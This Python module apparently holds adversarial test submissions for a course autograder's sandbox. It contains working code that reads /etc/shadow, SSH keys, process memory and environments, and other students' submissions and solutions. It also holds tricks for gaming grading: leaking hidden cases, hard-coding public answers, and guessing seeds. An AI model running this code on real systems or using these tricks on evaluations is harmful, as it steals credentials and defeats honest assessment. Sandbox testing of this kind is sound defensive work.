"""Attacks on secrets: hidden cases, expected values, seeds, other people's work, the solutions.

What is found is printed, so that it would stand in the graded notebook. No canary may.
"""

from __future__ import annotations

from hostile.kind import Kind

# What the public cases hold, copied out of the notebook's own reports.
_PUBLIC_RMSE = """
def rmse(predicted, observed):
    from course_lib.checks import catalogue

    for case in $public_cases:
        if case[0] == predicted.flatten().tolist() and case[1] == observed.tolist():
            return case[2]
    return 0.0
"""

KINDS = (
    Kind(
        "gc_hunt",
        "Looks through every object alive for cases, seeds, oracles and their results.",
        """
        import gc

        def hunt():
            for item in gc.get_objects():
                name = type(item).__name__
                if name in ("Case", "Task", "Limits", "Result", "Outcome"):
                    print(name, repr(item)[:2000])

        hunt()
        """,
        answers={
            "polynomial-features": """
            def polynomial_features(x, degree):
                hunt()
                raise ValueError(str(degree))
            """,
        },
    ),
    Kind(
        "frame_walk",
        "Walks up the stack, and that of every thread, for local names that give the answer.",
        """
        import inspect
        import sys

        def walk():
            frames = [info.frame for info in inspect.stack()]
            for frame in [*frames, *sys._current_frames().values()]:
                while frame:
                    for name, value in frame.f_locals.items():
                        if name in ("expected", "seed", "secret", "key", "task", "hidden"):
                            print(name, repr(value)[:2000])
                    frame = frame.f_back

        walk()
        """,
        answers={
            "polynomial-features": """
            def polynomial_features(x, degree):
                walk()
                return next(iter(inspect.stack()[1].frame.f_locals.get("expected", [None])))
            """,
        },
    ),
    Kind(
        "environment",
        "Prints every environment variable and argument, of this process and of its parents.",
        """
        import glob
        import os
        import sys

        print(dict(os.environ), sys.argv, sys.orig_argv)
        for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
            try:
                print(path, open(path, "rb").read())
            except OSError:
                pass
        """,
    ),
    Kind(
        "process_memory",
        "Reads this process's memory, and any other's, for a canary of the instructor's.",
        """
        import glob

        for path in ["/proc/self/mem", *glob.glob("/proc/[0-9]*/mem")]:
            try:
                maps = open(path.replace("/mem", "/maps")).read().splitlines()
                with open(path, "rb", 0) as memory:
                    for line in maps:
                        if "heap" in line or "stack" in line:
                            start, end = (int(part, 16) for part in line.split()[0].split("-"))
                            memory.seek(start)
                            content = memory.read(min(end - start, 50_000_000))
                            place = content.find(b"canary-" + b"of-the-")
                            print(path, content[place : place + 200] if place >= 0 else "nothing")
            except OSError as problem:
                print(path, problem)
        """,
    ),
    Kind(
        "other_memory",
        "Asks the kernel for the memory of its parent and of every process that it can name.",
        """
        import ctypes
        import os

        libc = ctypes.CDLL(None, use_errno=True)
        for pid in [os.getppid(), *range(1, 50)]:
            print(pid, libc.ptrace(16, pid, 0, 0), ctypes.get_errno())  # PTRACE_ATTACH
            buffer = ctypes.create_string_buffer(64)
            class Vector(ctypes.Structure):
                _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
            local = Vector(ctypes.addressof(buffer), 64)
            remote = Vector(id(0), 64)
            read = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
            if read > 0 and pid != os.getpid():
                print("READ", pid, buffer.raw)
        """,
    ),
    Kind(
        "read_the_disk",
        "Prints solutions, other submissions, the gradebook and whatever else can be opened.",
        """
        import glob

        for root in ("$course", "$repository"):
            patterns = ("*.db", "solutions/**/*", "submitted/**/*", "autograded/**/*", "*/*.json")
            for pattern in patterns:
                for path in glob.glob(f"{root}/{pattern}", recursive=True):
                    try:
                        content = open(path, "rb").read()
                        print("OPENED", path, content[-20_000:])
                    except OSError:
                        pass
        """,
    ),
    Kind(
        "read_the_system",
        "Prints accounts, keys, mounts and devices.",
        """
        import glob
        import os

        wanted = ["/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/resolv.conf"]
        wanted += ["/proc/1/environ", "/proc/kcore", "/dev/mem", "/dev/sda", "/dev/vda"]
        for home in (os.path.join("/", "root"), "/home/*"):
            wanted += glob.glob(f"{home}/.*") + glob.glob(f"{home}/.ssh/*")
        for path in wanted:
            try:
                with open(path, "rb") as file:
                    print("OPENED", path, file.read(300))
            except OSError:
                pass
        for folder in ("/", "/root", "/home", "/tmp", "/var", "$course", "$repository"):
            try:
                found = {"solutions", "submitted", "gradebook.db", ".ssh"} & {*os.listdir(folder)}
                print("LISTED" if found else "nothing in", folder)
            except OSError:
                pass
        """,
    ),
    Kind(
        "follow_descriptors",
        "Opens every descriptor's file again, and the working and root folders of each process.",
        """
        import glob
        import os

        for path in [p for name in ("fd/*", "cwd", "root") for p in glob.glob(f"/proc/*/{name}")]:
            try:
                print(path, os.readlink(path), os.listdir(path) if os.path.isdir(path) else "")
            except OSError:
                pass
        for descriptor in range(3, 256):
            try:
                print(descriptor, os.fstat(descriptor).st_mode, os.listdir(descriptor))
            except OSError:
                pass
            try:
                os.fchdir(descriptor)
                print("ESCAPED", os.listdir())
            except OSError:
                pass
        """,
    ),
    Kind(
        "print_the_cases",
        "Prints and raises every input that comes, so that hidden cases stand in the feedback.",
        answers={
            "polynomial-features": """
            def polynomial_features(x, degree):
                print("inputs", x.tolist(), degree)
                raise ValueError(f"inputs {x.tolist()} {degree}")
            """,
            "bias-variance": """
            def bias_variance(predictions, true_mean):
                seen = type(f"T{predictions.tolist()} {true_mean.tolist()}", (Exception,), {})
                raise seen(predictions.tolist())
            """,
        },
    ),
    Kind(
        "return_the_cases",
        "Returns its inputs as a result, as a key and as a type's name.",
        answers={
            "polynomial-features": """
            def polynomial_features(x, degree):
                return {str(x.tolist()): type(str(x.tolist()), (), {})()}
            """,
            "bias-variance": """
            def bias_variance(predictions, true_mean):
                return str(predictions.tolist()), true_mean.tolist()
            """,
        },
    ),
    Kind(
        "write_the_cases",
        "Writes every input past Python's own streams: to descriptors, displays and files.",
        """
        import os

        from IPython.display import display

        seen = []
        """,
        answers={
            "polynomial-features": """
            def polynomial_features(x, degree):
                seen.append(x.tolist())
                for descriptor in (1, 2):
                    os.write(descriptor, f"inputs {x.tolist()}".encode())
                display({"text/plain": f"inputs {x.tolist()}"}, raw=True)
                get_ipython().set_next_input(f"inputs {x.tolist()}")
                with open("seen.txt", "a") as file:
                    file.write(str(seen))
                return None
            """,
        },
        last="import pathlib\n\nprint(seen, [p.read_text() for p in pathlib.Path().glob('*.txt')])",
    ),
    Kind(
        "public_cases_by_heart",
        "Knows the public cases by heart and guesses for all others.",
        answers={"rmse": _PUBLIC_RMSE},
        points=1,  # zero for a perfect prediction, which the guess happens to be
    ),
    Kind(
        "right_only_at_first",
        "Behaves while the fixed cases run, which everybody gets, and differently after them.",
        "calls = [0]",
        answers={
            "rmse": """
            def rmse(predicted, observed):
                calls[0] += 1
                value = (predicted.flatten() - observed).square().mean().sqrt()
                return value if calls[0] <= $n_first_cases else value + 1
            """,
        },
        points=0,
    ),
    Kind(
        "guess_the_seed",
        "Draws the cases of many seeds, to find by their first number which seed is in use.",
        """
        from course_lib.checks import catalogue

        found = catalogue()["ex1_overfitting/polynomial-features"]
        first = {}
        for seed in range(1, 2000):  # 0 is the public one
            for case in found.drawn_cases(seed):
                first.setdefault(str(case.inputs["x"].tolist()), []).append(seed)
        """,
        answers={
            "polynomial-features": """
            def polynomial_features(x, degree):
                seeds = first.get(str(x.tolist()), [])
                if len(seeds) == 1:
                    print("SEED", seeds)
                return x.new_zeros(len(x), degree + 1)
            """,
        },
    ),
)
